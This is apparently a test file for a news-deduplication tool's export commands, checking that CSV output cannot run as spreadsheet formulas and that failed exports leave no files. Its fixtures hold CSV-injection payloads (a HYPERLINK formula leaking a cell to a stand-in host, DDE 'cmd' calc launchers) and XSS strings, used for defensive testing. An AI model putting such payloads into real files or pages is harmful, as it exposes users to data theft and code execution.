"""Exports a researcher opens in a spreadsheet: no cell runs as a formula, nothing crashes.

The hostile corpus is the seed corpus with metadata written by an attacker (formula payloads
from OWASP's CSV injection page, HTML, a TeX-looking outlet name), run through the real
pipeline, so that the payloads reach every table they would reach in a real corpus.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest
from conftest import CORPUS, FIFTH, INEWS, JFID, JURNAS, SAMUDRA
from typer.testing import CliRunner

from dedup.cli import app
from dedup.export import TABLES
from dedup.pipeline import run

runner = CliRunner()
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: article -> (outlet, title); every text cell an attacker controls
HOSTILE = {
    JFID: ('=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "<script>alert(1)</script>"),
    INEWS: ("@SUM(1+1)*cmd|' /C calc'!A0", "<img src=x onerror=alert(2)>"),
    JURNAS: ("+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"),
    SAMUDRA: ("-Minus News", "@channel: breaking"),
    FIFTH: ("<b>Warta</b> Kita", "=1+1"),
}
PUBLISHED = {JFID: "2023-09-06", INEWS: "2023-09-07", JURNAS: "2024-05-20"}
PUBLISHED |= {SAMUDRA: "2024-06-20", FIFTH: "2023-09-08"}
#: a paragraph both of two outlets carry, so that it is aligned and lands in the report
SHARED_HTML = (
    "Menurut dokumen yang dilihat wartawan, <script>alert(1)</script> pejabat itu menyebut"
    " rencana kunjungan sudah disiapkan sejak lama <img src=x onerror=alert(2)> dan akan"
    " dibahas lagi oleh kedua pemimpin dalam pertemuan tertutup di Vladivostok pekan depan."
)
SHARED_BY = (JFID, FIFTH)
#: README example 7: a list per row, which CSV cannot hold as such
EXAMPLE_7 = (
    "SELECT paragraph_id, list(DISTINCT source) AS sources, list(DISTINCT method) AS methods"
    " FROM attributions GROUP BY 1 HAVING count(DISTINCT source) > 1"
)


def build_hostile_db(folder: Path) -> Path:
    """The seed texts as JSONL with hostile outlets and titles, through the whole pipeline."""
    records = [
        {
            "id": article_id,
            "text": (CORPUS / f"{article_id}.txt").read_text(encoding="utf-8")
            + (f"\n\n{SHARED_HTML}\n" if article_id in SHARED_BY else ""),
            "outlet": outlet,
            "title": title,
            "published": PUBLISHED[article_id],
        }
        for article_id, (outlet, title) in HOSTILE.items()
    ]
    jsonl = folder / "hostile.jsonl"
    jsonl.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    db = folder / "hostile.duckdb"
    run([jsonl], db, quiet=True)
    return db


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_hostile_db(tmp_path_factory.mktemp("hostile"))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_spreadsheet_safe(path: Path) -> list[dict[str, str]]:
    """Every cell that a spreadsheet would run as a formula is a plain number."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START) or is_number(value), (path.name, value)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_export_csv_is_spreadsheet_safe(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = runner.invoke(
        app, ["export", "--format", "csv", "--out", str(out), "--db", str(hostile_db)]
    )
    assert result.exit_code == 0, result.output
    written = sorted(out.glob("*.csv"))
    assert len(written) == len(TABLES)
    tables = {path.stem: assert_spreadsheet_safe(path) for path in written}
    articles = {row["article_id"]: row for row in tables["articles"]}
    for article_id, (outlet, title) in HOSTILE.items():
        expected_outlet = "'" + outlet if outlet.startswith(FORMULA_START) else outlet
        expected_title = "'" + title if title.startswith(FORMULA_START) else title
        assert articles[article_id]["outlet"] == expected_outlet
        assert articles[article_id]["title"] == expected_title
    # the same text is prefixed wherever it lands, e.g. the derivation's outlet column
    derivation = {row["article_id"]: row for row in tables["article_derivation"]}
    assert derivation[JFID]["outlet"] == "'" + HOSTILE[JFID][0]
    # numbers stay numbers
    assert all(is_number(row["char_start"]) for row in tables["paragraphs"])


def test_export_parquet_stays_raw(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "parquet"
    result = runner.invoke(
        app, ["export", "--format", "parquet", "--out", str(out), "--db", str(hostile_db)]
    )
    assert result.exit_code == 0, result.output
    rows = duckdb.sql(
        f"SELECT article_id, outlet, title FROM '{out / 'articles.parquet'}'"
    ).fetchall()
    assert {a: (o, t) for a, o, t in rows} == HOSTILE


def test_sql_csv_prefixes_text_not_numbers(hostile_db: Path) -> None:
    query = (
        "SELECT outlet, -1 AS n, -2.5 AS x, '-3' AS s, 1 AS \"=col\","
        " chr(9) || 'tab' AS t, chr(13) || 'cr' AS r"
        f" FROM articles WHERE article_id = '{JFID}'"
    )
    result = runner.invoke(app, ["sql", query, "--db", str(hostile_db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows == [
        ["outlet", "n", "x", "s", "'=col", "t", "r"],
        ["'" + HOSTILE[JFID][0], "-1", "-2.5", "'-3", "1", "'\ttab", "'\rcr"],
    ]


def test_sql_csv_writes_nested_values_as_json(hostile_db: Path) -> None:
    """README example 7 with --format csv: lists become JSON text, equal to --format json."""
    as_csv = runner.invoke(app, ["sql", EXAMPLE_7, "--db", str(hostile_db), "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    as_json = runner.invoke(app, ["sql", EXAMPLE_7, "--db", str(hostile_db), "--format", "json"])
    expected = json.loads(as_json.stdout)
    assert expected, "the seed corpus has a paragraph with two sources (AFP and Reuters)"
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout, newline="")))

    def by_paragraph(rows: list[dict]) -> dict:  # list(DISTINCT ...) has no order of its own
        return {r["paragraph_id"]: (set(r["sources"]), set(r["methods"])) for r in rows}

    parsed = [
        {**row, "sources": json.loads(row["sources"]), "methods": json.loads(row["methods"])}
        for row in rows
    ]
    assert len(parsed) == len(expected) and by_paragraph(parsed) == by_paragraph(expected)


@pytest.mark.parametrize("command", ["export", "report"])
def test_out_that_cannot_be_a_folder_is_one_line(
    command: str, hostile_db: Path, tmp_path: Path
) -> None:
    """--out on an existing file, or under one (as a read-only place: root writes anywhere)."""
    a_file = tmp_path / "taken.txt"
    a_file.write_text("keep me\n", encoding="utf-8")
    for out in (a_file, a_file / "sub"):
        result = runner.invoke(app, [command, "--out", str(out), "--db", str(hostile_db)])
        assert result.exit_code == 2, result.output
        assert result.stderr.strip().count("\n") == 0
        assert result.stderr.startswith(f"error: cannot write to {out}")
    assert a_file.read_text(encoding="utf-8") == "keep me\n"


@pytest.mark.skipif(not Path("/sys/kernel").is_dir(), reason="needs Linux sysfs")
@pytest.mark.parametrize("command", ["export", "report"])
def test_out_in_a_read_only_place_is_one_line(command: str, hostile_db: Path) -> None:
    """sysfs refuses new folders even to root, unlike a chmod'ed folder."""
    out = Path("/sys/dedup-out")
    result = runner.invoke(app, [command, "--out", str(out), "--db", str(hostile_db)])
    assert result.exit_code == 2, result.output
    assert result.stderr.strip().count("\n") == 0
    assert result.stderr.startswith(f"error: cannot write to {out}")


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_failed_export_writes_no_file(
    fmt: str, hostile_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All tables or none: a failure at the third table (a full disk) leaves the folder as it
    was, not two new files beside older ones."""
    from dedup import export

    out = tmp_path / "out"
    out.mkdir()
    (out / "articles.csv").write_text("the last export\n")
    done: list[Path] = []

    def third_fails(path: Path) -> None:
        done.append(path)
        if len(done) == 3:
            raise OSError(28, "No space left on device")

    write_csv, quote = export.spreadsheet.write_csv, export._quote
    monkeypatch.setattr(
        export.spreadsheet, "write_csv", lambda c, r, p: third_fails(p) or write_csv(c, r, p)
    )
    monkeypatch.setattr(export, "_quote", lambda p: third_fails(p) or quote(p))
    result = runner.invoke(
        app, ["export", "--out", str(out), "--db", str(hostile_db), "--format", fmt]
    )
    assert result.exit_code == 2 and "No space left on device" in result.stderr
    assert [p.name for p in out.iterdir()] == ["articles.csv"]
    assert (out / "articles.csv").read_text() == "the last export\n"


def test_export_on_a_missing_database_makes_no_folder(tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["export", "--out", str(tmp_path / "out"), "--db", str(tmp_path / "no.duckdb")]
    )
    assert result.exit_code == 2 and "database not found" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_failed_output_leaves_no_folder_it_made(tmp_path: Path) -> None:
    """A report or an export to a new folder that fails (a full disk) left that folder
    behind, empty (helper-46); a folder that was there before stays."""
    from dedup.export import staged

    out = tmp_path / "new" / "out"
    with pytest.raises(OSError, match="No space"), staged(out) as stage:
        (stage / "articles.csv").write_text("article_id\n", encoding="utf-8")
        raise OSError(28, "No space left on device")
    assert list(tmp_path.iterdir()) == []
    kept = tmp_path / "kept"
    kept.mkdir()
    with pytest.raises(OSError, match="No space"), staged(kept):
        raise OSError(28, "No space left on device")
    assert list(tmp_path.iterdir()) == [kept] and list(kept.iterdir()) == []
    with staged(out) as stage:  # and one that ends well keeps what it made
        (stage / "articles.csv").write_text("article_id\n", encoding="utf-8")
    assert (out / "articles.csv").read_text(encoding="utf-8") == "article_id\n"


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_equal_tables_export_equal_files(seed_db: Path, tmp_path: Path, fmt: str) -> None:
    """Rows stored in another order (an incremental run's, helper-51) give the same files."""
    from dedup import export

    shuffled = tmp_path / "shuffled.duckdb"
    shuffled.write_bytes(seed_db.read_bytes())
    con = duckdb.connect(str(shuffled))
    for table in ("paragraphs", "alignments", "attributions"):
        con.execute(
            f"CREATE TEMP TABLE x AS SELECT * FROM {table} ORDER BY ALL DESC; "
            f"DELETE FROM {table}; INSERT INTO {table} SELECT * FROM x; DROP TABLE x"
        )
    con.close()
    for db, out in ((seed_db, tmp_path / "a"), (shuffled, tmp_path / "b")):
        export.export(db, out, fmt)
    for table in TABLES:
        name = f"{table}.{fmt}"
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name
